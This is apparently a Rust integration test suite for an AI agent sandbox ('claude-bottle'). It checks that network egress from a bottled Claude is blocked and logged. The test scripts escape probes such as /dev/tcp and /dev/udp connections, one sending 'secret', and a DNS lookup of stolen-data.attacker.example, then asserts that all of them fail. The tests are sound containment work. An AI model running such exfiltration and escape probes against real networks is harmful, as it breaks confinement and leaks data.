//! What a bottle must not reach is not reached: the target saw no packet, while an allowed request beside it passed.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stdout)] // tests

use anyhow::{Context, Result};
use bottle_tests::{
    bottle::{Home, KillOnDrop, REAL_TOKEN, assert_nothing_left, assert_only_log_left, eventually, identity_in},
    lab::{HostCounter, Lab, Target, output},
    standin::Standin,
    wire::Authority,
};
use rustix::process::{Pid, Signal, kill_process};
use std::{
    net::{TcpListener, UdpSocket},
    process::Command,
};

struct Bottle {
    child: KillOnDrop,
    identity: String,
    bridge: String,
    addresses: Vec<String>,
}

/// Starts a bottle whose Claude plays these lines, and asks the engine where it stands.
fn started(lab: &Lab, home: &Home, lines: &[String]) -> Result<Bottle> {
    let prompt: String = lines.iter().map(|line| format!("@@bash {line}\n")).collect();
    let child = home.start(&["start", "dev", "--yes", "--prompt", &prompt], &[])?;
    let identity = eventually("the bottle is listed", || home.listed().pop())?;
    let label = format!("label=claude-bottle.identity={identity}");
    let network =
        lab.docker(&["network", "ls", "-q", "--filter", &label, "--filter", "label=claude-bottle.role=internal"])?;
    let mut addresses = vec![];
    for id in lab.docker(&["ps", "-q", "--filter", &label])?.lines() {
        let format = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}";
        addresses.extend(lab.docker(&["inspect", "-f", format, id])?.split_whitespace().map(str::to_owned));
    }
    Ok(Bottle { child, identity, bridge: format!("br-{}", network.trim()), addresses })
}

/// Ends a waiting bottle with SIGTERM, and sees that it leaves nothing either.
fn stop(lab: &Lab, home: &Home, bottle: Bottle) -> Result<()> {
    kill_process(Pid::from_child(&bottle.child), Signal::TERM)?;
    let run = bottle.child.finish()?;
    assert_eq!(run.code, Some(128 + 15), "{run:?}");
    assert_only_log_left(lab, home, &bottle.identity)
}

/// Tries to connect, and says how that ended in its last line: `rc=1` refused or no way, `rc=124` no answer in time.
fn connect(ip: &str, port: u16) -> String {
    format!("timeout 3 bash -c 'echo hello > /dev/tcp/{ip}/{port}' 2>&1; echo rc=$?")
}

fn last_line(text: &str) -> &str {
    text.trim_end().lines().last().unwrap_or_default()
}

#[test]
fn nothing_but_the_sidecar_is_within_reach() -> Result<()> {
    let (lab, authority) = (Lab::get(), Authority::new()?);
    let hosts = ["api.anthropic.com", "allowed.example"];
    let standin = Standin::start(&authority, &hosts, &format!("Bearer {REAL_TOKEN}"))?;
    let routes = hosts.map(|h| format!("{{host: {h}, address: {}}}", standin.address));
    let (home, neighbours) = (Home::new(lab, &authority, &standin)?, Home::new(lab, &authority, &standin)?);
    home.bottle("box", &routes.each_ref().map(String::as_str))?;
    let target = Target::new()?;
    let address = target.address;
    // The target's counter counts.
    let _ = UdpSocket::bind("0.0.0.0:0")?.send_to(b"x", (address, 9));
    eventually("the target's counter counts", || (target.packets().ok()? > 0).then_some(()))?;
    let before = target.packets()?;

    // Another bottle, and a listener on every address of this machine.
    let neighbour = started(lab, &neighbours, &["until [ -e /nowhere ]; do sleep 0.1; done".into()])?;
    let listener = TcpListener::bind("0.0.0.0:0")?;
    listener.set_nonblocking(true)?;
    let port = listener.local_addr()?.port();
    let docker0 = output(Command::new("ip").args(["-4", "-o", "addr", "show", "docker0"]))?;
    let docker0 = docker0.split_whitespace().nth(3).and_then(|net| net.split('/').next()).context("docker0")?;
    let machine = [docker0.to_owned(), "198.51.100.1".into()];

    let mut lines: Vec<String> = vec![
        // Nothing is tried before every counter stands.
        "until curl -sf -m 2 https://allowed.example/gate -o /dev/null; do sleep 0.1; done; echo open".into(),
        connect(&address.to_string(), 8000),
        connect(&address.to_string(), 443),
        format!("curl -sS -m 5 --noproxy '*' https://{address}/ 2>&1; echo rc=$?"),
        format!("ping -c1 -W2 {address} 2>&1; echo rc=$?"),
        format!("timeout 3 bash -c 'echo secret > /dev/udp/{address}/53'; {}", connect(&address.to_string(), 53)),
    ];
    lines.extend(machine.iter().map(|ip| connect(ip, port)));
    lines.extend(neighbour.addresses.iter().flat_map(|ip| [connect(ip, 9099), connect(ip, 53)]));
    let out_of_reach = lines.len();
    lines.extend([
        format!("curl -sS -m 5 http://{address}:8000/ ; echo; curl -sS -m 5 -k https://{address}/"),
        "getent hosts stolen-data.attacker.example; echo rc=$?".into(),
        "curl -sS -m 5 https://forbidden.example/; echo; curl -sS -m 5 https://allowed.example/yes".into(),
        connect("egress", 9099),
    ]);

    let bottle = started(lab, &home, &lines)?;
    let everywhere = machine.iter().cloned().chain(neighbour.addresses.clone()).chain([address.to_string()]);
    let counters: Vec<(String, HostCounter)> = everywhere
        .map(|ip| Ok((ip.clone(), HostCounter::new(&["-i", &bottle.bridge, "-d", &ip])?)))
        .collect::<Result<_>>()?;
    // Packets between the bottle and its own sidecar cross the same bridge: these counters do count.
    let control = HostCounter::new(&["-i", &bottle.bridge, "-p", "tcp", "--dport", "9099"])?;
    standin.open_gate();
    let run = bottle.child.finish()?;
    let results = run.results().with_context(|| format!("{run:?}"))?;
    assert_eq!((results.len(), last_line(&results[0])), (lines.len(), "open"), "{results:#?}");

    // Everything up to here: neither an answer, nor a packet that left.
    for (line, result) in lines.iter().zip(&results).take(out_of_reach).skip(1) {
        let end = last_line(result);
        assert!(["rc=1", "rc=2", "rc=7", "rc=28", "rc=124"].contains(&end), "{line}: {result}");
    }
    for (ip, counter) in &counters {
        assert_eq!(counter.packets()?, 0, "packets to {ip} left the bottle");
    }
    assert!(control.packets()? > 0, "packets on the bottle's bridge are not seen: the counters prove nothing");
    assert_eq!(target.packets()?, before, "packets reached {address}: {:?}", target.seen());
    assert!(target.seen().is_empty(), "{:?}", target.seen());
    assert!(listener.accept().is_err(), "the machine's own listener was reached");

    // Refused by the sidecar, in words; allowed: arrived; in the log, all of it.
    let rest = &results[out_of_reach..];
    assert_eq!(rest[0].matches("bottle_egress_denied").count(), 2, "{}", rest[0]);
    assert_eq!(last_line(&rest[1]), "rc=2", "{}", rest[1]);
    assert!(rest[2].contains("\"rule\":\"host\""), "{}", rest[2]);
    assert_eq!(last_line(&rest[3]), "rc=0", "the sidecar itself is not reached: {}", rest[3]);
    assert!(standin.seen().iter().any(|s| s.path == "/yes"), "the allowed request did not arrive: {rest:?}");
    let refused = |place: &str| run.stderr.lines().any(|line| line.contains("denied") && line.ends_with(place));
    for place in
        ["forbidden.example:443 (host)", "stolen-data.attacker.example (dns)", &format!("{address}:8000 (host)")]
    {
        assert!(refused(place), "{place} is not in {}", run.stderr);
    }
    assert_eq!(run.code, Some(0));
    assert_nothing_left(lab, &home, &identity_in(&run.stderr)?)?;
    stop(lab, &neighbours, neighbour)
}

#[test]
fn a_refusal_is_logged_while_the_bottle_runs() -> Result<()> {
    let (lab, authority) = (Lab::get(), Authority::new()?);
    let standin = Standin::start(&authority, &["api.anthropic.com"], &format!("Bearer {REAL_TOKEN}"))?;
    let home = Home::new(lab, &authority, &standin)?;
    let prompt = "@@bash curl -sS -m 5 'https://forbidden.example/a/path?with=query'; sleep 2";
    let child = home.start(&["start", "dev", "--yes", "--prompt", prompt], &[])?;
    let line = eventually("the refusal is in the log", || {
        home.egress_log().into_iter().find(|line| line["host"] == "forbidden.example:443")
    })?;
    assert_eq!((&line["decision"], &line["rule"], &line["status"]), (&"deny".into(), &"host".into(), &403.into()));
    assert_eq!((&line["method"], &line["path"]), (&"GET".into(), &"/a/path".into()));
    let run = child.finish()?;
    assert_eq!(run.code, Some(0), "{run:?}");
    assert_nothing_left(lab, &home, &identity_in(&run.stderr)?)
}
